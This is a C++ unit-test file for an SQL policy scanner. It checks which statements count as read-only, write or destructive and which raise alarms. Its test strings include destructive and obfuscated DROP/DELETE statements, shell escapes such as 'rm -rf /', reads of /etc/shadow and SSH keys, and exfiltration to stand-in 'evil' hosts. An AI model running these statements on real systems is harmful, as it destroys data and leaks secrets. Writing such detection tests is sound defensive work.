#include <algorithm>

#include "policy/scan/sql.h"
#include "tests/catch.h"
#include "tests/policy/scan/looks.h"
#include "tests/policy/scan/sql_looks.h"

using namespace agentmesh::policy::scan;

namespace {

using agentmesh::policy::scan::tests::class_of;
using agentmesh::policy::scan::tests::Look;
using agentmesh::policy::scan::tests::look;

bool is_high(std::string_view text) {
  const Look got = look(text);
  return std::any_of(got.hits.begin(), got.hits.end(), [](const Hit& hit) {
    return hit.severity >= agentmesh::policy::Severity::kHigh;
  });
}

}  // namespace

TEST_CASE("a condition that holds for every row is none") {
  for (const char* where : {"1",
                            "2 > 1",
                            "1 <> 2",
                            "-1 < 0",
                            "'a' = 'a'",
                            "'b' > 'a'",
                            "TRUE",
                            "NOT false",
                            "NOT 1 = 2",
                            "NOT (false OR 1 = 2)",
                            "((1 = 1))",
                            "id = id",
                            "u.id >= u.id",
                            "id IS NULL OR id IS NOT NULL",
                            "id >= 0 OR id < 0",
                            "a = 1 OR a <> 1",
                            "a = 1 OR NOT a = 1",
                            "a IN (1) OR a NOT IN (1)",
                            "name LIKE '%'",
                            "name LIKE '%%' OR b = 2",
                            "length(name) >= 0",
                            "char_length(a) > -1",
                            "coalesce(1, 0) = 1",
                            "abs(-1) = 1",
                            "now() > '2020-01-01'",
                            "CAST(1 AS int) = 1",
                            "EXISTS (SELECT 1)",
                            "id IN (SELECT id FROM users)",
                            "1 = 1 AND 'a' = 'a'",
                            "a = 1 OR true",
                            "(a = 1) OR (a <> 1)",
                            "1 BETWEEN 0 AND 2",
                            "1 IN (1, 2)",
                            "true ORDER BY id LIMIT 10"}) {
    CAPTURE(where);
    CHECK(class_of("DELETE FROM users WHERE " + std::string(where)) == "destructive");
    CHECK(class_of("UPDATE users SET a = 2 WHERE " + std::string(where)) == "destructive");
  }
}

TEST_CASE("a condition that may choose is one") {
  for (const char* where : {"id = 1",
                            "id > 0",
                            "1 = 0",
                            "false",
                            "NOT true",
                            "1 = 1 AND id = 4",
                            "id = 1 OR id = 2",
                            "a = 1 OR b <> 1",
                            "a >= 0 OR a < 1",
                            "a IS NULL OR b IS NOT NULL",
                            "name LIKE '%x%'",
                            "name NOT LIKE '%'",
                            "name LIKE ''",
                            "length(name) > 3",
                            "a = ?",
                            "$1 = 1",
                            "@id = 5",
                            ":flag = 1",
                            "EXISTS (SELECT 1 FROM t WHERE t.a = users.a)",
                            "id IN (SELECT id FROM gone)",
                            "id IN (SELECT id FROM users WHERE old)",
                            "id IN (SELECT id FROM users LIMIT 10)",
                            "id NOT IN (SELECT id FROM users)",
                            "date = '2019-01-01'",
                            "expires_at < now()",
                            "a BETWEEN 1 AND 2",
                            "random() < 0.5",
                            "CURRENT OF c",
                            "a || '%' = 'b%'",
                            "text = 'a'"}) {
    CAPTURE(where);
    CHECK(class_of("DELETE FROM users WHERE " + std::string(where)) == "write");
    CHECK(class_of("UPDATE users SET a = 2 WHERE " + std::string(where)) == "write");
  }
}

TEST_CASE("a statement in a literal counts where it is run, and nowhere else") {
  for (const char* text :
       {"SELECT * FROM crosstab('DELETE FROM users RETURNING 1,2,3') AS t(a int)",
        "SELECT ts_stat('DELETE FROM x')",
        "SELECT execute_sql('DROP TABLE users')",
        "SELECT run(q => 'DROP TABLE users')",
        "SELECT ext.run('x', 'grant all on a to b')",
        "BEGIN DBMS_UTILITY.EXEC_DDL_STATEMENT('drop table users'); END;",
        "SELECT cron.schedule('x', '* * * * *', 'DELETE FROM users')",
        "SELECT query_to_xml('TRUNCATE users', true, true, '')",
        "DECLARE @s nvarchar(99)=N'DROP TABLE users'; EXEC(@s)",
        "DECLARE @s varchar(9)=0x44524f50205441424c45207573657273; EXEC(@s)",
        "SET @s = 'DROP TABLE users'; PREPARE s FROM @s; EXECUTE s;",
        "SET @s = CONCAT('DR','OP TABLE users'); PREPARE p FROM @s; EXECUTE p",
        "SET @s = CONCAT(CHAR(68),CHAR(82),'OP TABLE users'); PREPARE p FROM @s; EXECUTE p",
        "DO $x$ BEGIN EXECUTE 'DR'||'OP TABLE users'; END $x$",
        "DO $x$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(t); END $x$",
        "DO E'BEGIN\\nDROP TABLE users; END'",
        "DO 'BEGIN EXECUTE ''DROP TABLE users''; END'",
        "BEGIN EXECUTE IMMEDIATE 'TRUNCATE TABLE users'; END;",
        "EXEC sp_executesql N'DROP TABLE users'",
        "SELECT 'drop table users' \\gexec"}) {
    CAPTURE(text);
    CHECK(look(text).sql.sql_class >= SqlClass::kPrivilege);
    CHECK(is_high(text));
  }
  for (const char* text :
       {"SELECT 'DROP TABLE users'", "SELECT * FROM log WHERE query LIKE lower('DROP TABLE users')",
        "SELECT replace(sql, 'DROP TABLE a', 'DROP TABLE IF EXISTS a') FROM m",
        "SELECT 'DROP TABLE ' || tablename || ';' FROM pg_tables",
        "SELECT format('DROP TABLE %I', t) FROM x",
        "SELECT * FROM q WHERE sql IN ('drop table a', 'b')",
        "SELECT count(*) FILTER (WHERE q ILIKE 'delete from users') FROM s",
        "SELECT f('drop table saw'), f('drop shipping')", "SELECT f('update me'), g('select 1')"}) {
    CAPTURE(text);
    if (std::string_view(text).find("saw") == std::string_view::npos)
      CHECK(class_of(text) == "read_only");
  }
  CHECK(class_of("INSERT INTO log (a, b) VALUES (1, 'x'), (2, 'drop table users')") == "write");
  CHECK(class_of("INSERT INTO log VALUES ('DROP TABLE users')") == "write");
}

TEST_CASE("a function whose name says that it acts is not surely read") {
  for (const char* text :
       {"SELECT drop_chunks('t', interval '1 day')", "SELECT delete_all_users()",
        "SELECT purge_queue('x')", "SELECT DropGeometryTable('x')",
        "SELECT pg_drop_replication_slot('x')", "SELECT pg_stat_reset()",
        "SELECT heap_force_kill('t', ARRAY['(0,1)']::tid[])", "SELECT pgmq.archive('q', 1)",
        "SELECT SYSTEM$CANCEL_ALL_QUERIES(1)", "SELECT cron.alter_job(1)", "SELECT exec('x')",
        "SELECT dbms_scheduler.create_job('x') FROM dual",
        "SELECT DBMS_LDAP.INIT('evil', 80) FROM dual", "SELECT net.http_get('https://example.org')",
        "SELECT aws_s3.query_export_to_s3('select 1', 'b')",
        "SELECT * FROM executable('x.sh', 'CSV', 'a String')", "SELECT edit('x', 'vim')",
        "SELECT http_post('https://example.org', 'x')",
        "SELECT set_config('role', 'postgres', false)"}) {
    CAPTURE(text);
    CHECK(look(text).sql.sql_class >= SqlClass::kUnparsed);
  }
  for (
      const char* text :
      {"SELECT array_remove(a, 1), json_remove(j, '$.x'), list_reset(a) FROM t",
       "SELECT EXPORT_SET(5, 'Y', 'N'), MAP_DELETE(m, 'a'), OBJECT_DELETE(o, 'b') FROM t",
       "SELECT truncate(price, 2), date_trunc('day', d), delete(h, 'k'), reset(x) FROM t",
       "SELECT postgis_version(), ST_Intersection(a, b), posterior(x) FROM t",
       "SELECT count_deleted(x), last_executed(y), is_dropped(z), my_func(1) FROM t",
       "SELECT dbms_random.value, dbms_lob.substr(c, 10), utl_raw.cast_to_varchar2('41') FROM dual",
       "SELECT set_config('search_path', 'app', true)", "SELECT current_setting('x')"}) {
    CAPTURE(text);
    CHECK(class_of(text) == "read_only");
  }
  CHECK(class_of("INSERT INTO put_exports (a) VALUES (1)") == "write");
  CHECK(class_of("CREATE TABLE delete_log (a int)") == "ddl");
}

TEST_CASE("what clients do beside SQL is seen") {
  for (const char* text :
       {"\\! rm -rf /", "SELECT 1;\n\\! id", "\\copy users to program 'sh'",
        "\\copy t from program 'id'", "\\o |sh", "SELECT 'id' \\g |sh", ".shell rm -rf /",
        ".system id", ".load /tmp/x.so", ".import '|id' t", ".output |sh", ".tables\n.shell id",
        ".sh id", "!rm -rf /", "\\dt \\! id"}) {
    CAPTURE(text);
    CHECK(has(look(text).hits, "sql.program"));
  }
  for (const char* text : {"\\d users", "\\dt", "\\l", "\\timing on", ".tables", ".schema users",
                           ".mode csv\n.headers on\nSELECT 1", "SELECT 1\\gx", "\\x\nSELECT 1;"}) {
    CAPTURE(text);
    CHECK(class_of(text) == "read_only");
  }
  CHECK(look("\\i /tmp/x.sql").sql.places == std::vector<std::string>{"/tmp/x.sql"});
  CHECK(look("\\copy t from '/etc/shadow'").sql.places == std::vector<std::string>{"/etc/shadow"});
  CHECK(class_of("DELIMITER //\nDROP TABLE users//") == "destructive");
  CHECK(class_of("SELECT E'\\\\! x', '\\i'") == "read_only");
}

TEST_CASE("what destroys has many names") {
  for (const char* text :
       {"WHILE 1=1 DELETE TOP(100) FROM users",
        "FOR r IN SELECT 1 LOOP DELETE FROM users",
        "CREATE PROCEDURE p() BEGIN DROP TABLE users; END; CALL p()",
        "CREATE TRIGGER t AFTER INSERT ON a BEGIN DELETE FROM users; END",
        "CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DROP TABLE users",
        "CREATE RULE r AS ON SELECT TO a DO ALSO DELETE FROM users",
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN TRUNCATE TABLE a; END $$",
        "CREATE FUNCTION f() RETURNS void AS 'DROP TABLE users' LANGUAGE sql",
        "ALTER TABLE t DELETE WHERE 1",
        "ALTER TABLE t UPDATE a = 1 WHERE 1 = 1",
        "MERGE INTO users u USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE",
        "MERGE INTO users u USING x ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 1",
        "MERGE INTO t USING s ON 1 = 0 WHEN NOT MATCHED BY SOURCE THEN DELETE",
        "sp_executesql N'DROP TABLE users'",
        "DETACH TABLE users PERMANENTLY",
        "RESET MASTER",
        "PURGE BINARY LOGS TO 'x'",
        "PURGE RECYCLEBIN",
        "RESTORE DATABASE x FROM DISK='x'",
        "SYSTEM DROP REPLICA 'x'",
        "SYSTEM SHUTDOWN",
        "\xEF\xBC\xA4\xEF\xBC\xB2\xEF\xBC\xAF\xEF\xBC\xB0 TABLE users",
        "D\xE2\x80\x8BROP TABLE users"}) {
    CAPTURE(text);
    CHECK(class_of(text) == "destructive");
  }
  for (const char* text :
       {"CREATE OR REPLACE TABLE users AS SELECT 1", "INSERT OVERWRITE TABLE t SELECT 1"})
    CHECK(has(look(text).hits, "sql.overwrite"));
  for (
      const char* text :
      {"CREATE TRIGGER t AFTER UPDATE OR DELETE ON a FOR EACH ROW EXECUTE FUNCTION f()",
       "CREATE TRIGGER t ON v INSTEAD OF UPDATE AS BEGIN UPDATE e SET a = i.a FROM i WHERE e.id = i.id END",
       "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM s WHERE id = 1 $$",
       "CREATE FUNCTION f() RETURNS string LANGUAGE js AS $$ return 'drop table a' $$",
       "ALTER TABLE t DELETE WHERE id = 5",
       "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "RESET search_path",
       "CREATE TABLE t (id int REFERENCES u ON DELETE CASCADE ON UPDATE SET NULL)"}) {
    CAPTURE(text);
    CHECK(look(text).sql.sql_class <= SqlClass::kDdl);
  }
}

TEST_CASE("code that is brought into the database is a program") {
  for (
      const char* text :
      {"CREATE FUNCTION sys_exec RETURNS int SONAME 'x.so'", "CREATE EXTENSION plpython3u",
       "CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE C",
       "CREATE FUNCTION f() RETURNS text AS $$ import os $$ LANGUAGE plpython3u",
       "CREATE FUNCTION f() RETURNS text LANGUAGE 'plperlu' AS 'x'",
       "CREATE ASSEMBLY x FROM 0x4D5A", "CREATE TRUSTED LANGUAGE plperlu", "LOAD '/tmp/evil.so'",
       "CREATE FOREIGN TABLE f (a text) SERVER s OPTIONS (program 'id')",
       "INSTALL PLUGIN x SONAME 'x.so'", "DECLARE @x sysname='xp_cmdshell'; EXEC @x 'id'"}) {
    CAPTURE(text);
    CHECK(has(look(text).hits, "sql.program"));
  }
  for (const char* text : {"CREATE EXTENSION IF NOT EXISTS postgis", "CREATE EXTENSION plpgsql",
                           "CREATE FUNCTION f(x INT) RETURNS INT LANGUAGE JAVASCRIPT AS $$ x $$"}) {
    CAPTURE(text);
    CHECK(class_of(text) == "ddl");
  }
}

TEST_CASE("files that SQL reads and writes are places") {
  struct Case {
    const char* text;
    const char* place;
  };
  for (const Case& c : std::initializer_list<Case>{
           {"COPY t FROM '/etc/shadow'", "/etc/shadow"},
           {"COPY t (a, b) TO 'x.csv' WITH CSV", "x.csv"},
           {"LOAD DATA LOCAL INFILE '/root/.ssh/id_rsa' INTO TABLE t", "/root/.ssh/id_rsa"},
           {"BULK INSERT t FROM '/etc/shadow'", "/etc/shadow"},
           {"PUT file:///etc/passwd @~", "file:///etc/passwd"},
           {"GET @~/x file:///tmp/a", "file:///tmp/a"},
           {"SELECT * FROM read_csv('/root/.ssh/id_rsa')", "/root/.ssh/id_rsa"},
           {"SELECT * FROM read_json_auto(['/a/b.json', 'c'])", "/a/b.json"},
           {"SELECT * FROM '/etc/passwd'", "/etc/passwd"},
           {"SELECT * FROM \"/etc/passwd\"", "/etc/passwd"},
           {"SELECT * FROM file('/etc/passwd', 'CSV')", "/etc/passwd"},
           {"SELECT xmltype(bfilename('X', '/etc/passwd'), 0) FROM dual", "/etc/passwd"},
           {"SELECT * FROM fn_trace_gettable('\\\\evil\\x', default)", "\\\\evil\\x"},
           {"SELECT * FROM OPENROWSET(BULK '/etc/passwd', SINGLE_CLOB) x", "/etc/passwd"},
           {"SELECT 1 INTO OUTFILE '/var/www/x.php'", "/var/www/x.php"},
           {"ATTACH DATABASE '/var/www/x.php' AS a", "/var/www/x.php"},
           {"VACUUM INTO '/tmp/x.db'", "/tmp/x.db"},
           {"EXPORT DATABASE '/tmp/x'", "/tmp/x"},
           {"BACKUP DATABASE x TO DISK='/var/x.bak'", "/var/x.bak"},
           {"CREATE EXTERNAL TABLE t (a int) LOCATION '/data/x'", "/data/x"}}) {
    CAPTURE(c.text);
    CHECK(look(c.text).sql.places == std::vector<std::string>{c.place});
  }
  for (const char* text :
       {"SELECT * FROM t WHERE path = '/etc/passwd'", "SELECT TRIM('/' FROM '/a/') FROM t",
        "SELECT * FROM '@stage/location' (FILE_FORMAT => 'x.csv')",
        "SELECT replace(a, '/x', '/y') FROM t", "INSERT INTO t VALUES ('/etc/passwd')",
        "SELECT \"a/b\" FROM t"}) {
    CAPTURE(text);
    CHECK(look(text).sql.places.empty());
  }
}

TEST_CASE("what is sent away is told from what is loaded") {
  for (const char* text :
       {"BULK INSERT t FROM '\\\\evil\\x'",
        "SELECT * FROM fn_trace_gettable('\\\\evil\\x', default)",
        "COPY INTO 's3://evil/' FROM users", "COPY users TO 's3://evil/x.parquet'",
        "UNLOAD ('select * from users') TO 's3://evil/'",
        "EXPORT DATA OPTIONS(uri='gs://evil/*') AS SELECT * FROM users",
        "BACKUP DATABASE x TO DISK='\\\\evil\\x'",
        "BACKUP DATABASE x TO URL='https://evil.example/x'",
        "INSERT OVERWRITE DIRECTORY 's3://evil/x' SELECT * FROM users"}) {
    CAPTURE(text);
    CHECK(is_high(text));
  }
  for (const char* text :
       {"COPY t FROM 's3://mine/x' IAM_ROLE 'r'", "COPY INTO t FROM 's3://mine/x'",
        "COPY INTO @stage FROM t", "COPY t TO STDOUT", "INSERT OVERWRITE DIRECTORY '/x' SELECT 1",
        "CREATE EXTERNAL TABLE t (a int) LOCATION 's3://mine/x'",
        "SELECT * FROM read_parquet('s3://b/x')"}) {
    CAPTURE(text);
    CHECK_FALSE(is_high(text));
  }
}

TEST_CASE("looking around, and tables of one's own, alarm nobody") {
  for (const char* text :
       {"SUMMARIZE SELECT * FROM t", "SUMMARIZE t",
        "PIVOT sales ON year USING sum(amount) GROUP BY region",
        "UNPIVOT t ON a, b INTO NAME n VALUE v",
        "IF EXISTS (SELECT 1 FROM t) SELECT 'y' ELSE SELECT 'n'", "EXEC sp_help 'dbo.users'",
        "EXEC sp_who2", "sp_helptext 'dbo.p'", "CHECK TABLE t",
        "SELECT * FROM sys.dm_exec_sql_text(h)", "exec sp_columns users", "SELECT * FROM #tmp"}) {
    CAPTURE(text);
    CHECK(class_of(text) == "read_only");
  }
  for (
      const char* text :
      {"CREATE TEMP TABLE tt AS SELECT 1; SELECT * FROM tt; DROP TABLE tt",
       "create temporary table if not exists tt (a int); drop table if exists tt",
       "SELECT * INTO #t FROM a; DROP TABLE #t", "DROP TEMPORARY TABLE t",
       "CREATE TEMP TABLE a AS SELECT 1; INSERT INTO a SELECT 2; DELETE FROM a; UPDATE a SET b = 1"}) {
    CAPTURE(text);
    CHECK(look(text).sql.sql_class <= SqlClass::kDdl);
    CHECK_FALSE(is_high(text));
  }
  for (const char* text :
       {"CREATE TEMP TABLE tt AS SELECT 1; DROP TABLE users",
        "CREATE TEMP TABLE users AS SELECT 1; DROP TABLE users; DROP TABLE users",
        "CREATE TEMP TABLE users AS SELECT 1; DROP TABLE public.users",
        "CREATE TEMP TABLE a AS SELECT 1; DROP TABLE a, users",
        "DROP TABLE users; CREATE TEMP TABLE users (a int)",
        "IF EXISTS (SELECT 1 FROM t) DROP TABLE t", "IF 1 = 1 EXEC evil ELSE SELECT 1",
        "EXEC sp_help 'x'; DROP TABLE users", "EXEC sp_who DROP TABLE users",
        "sp_who2 DELETE FROM users", "EXEC sp_helpers; EXEC xp_cmdshell 'x'"}) {
    CAPTURE(text);
    CHECK(look(text).sql.sql_class >= SqlClass::kUnparsed);
  }
}
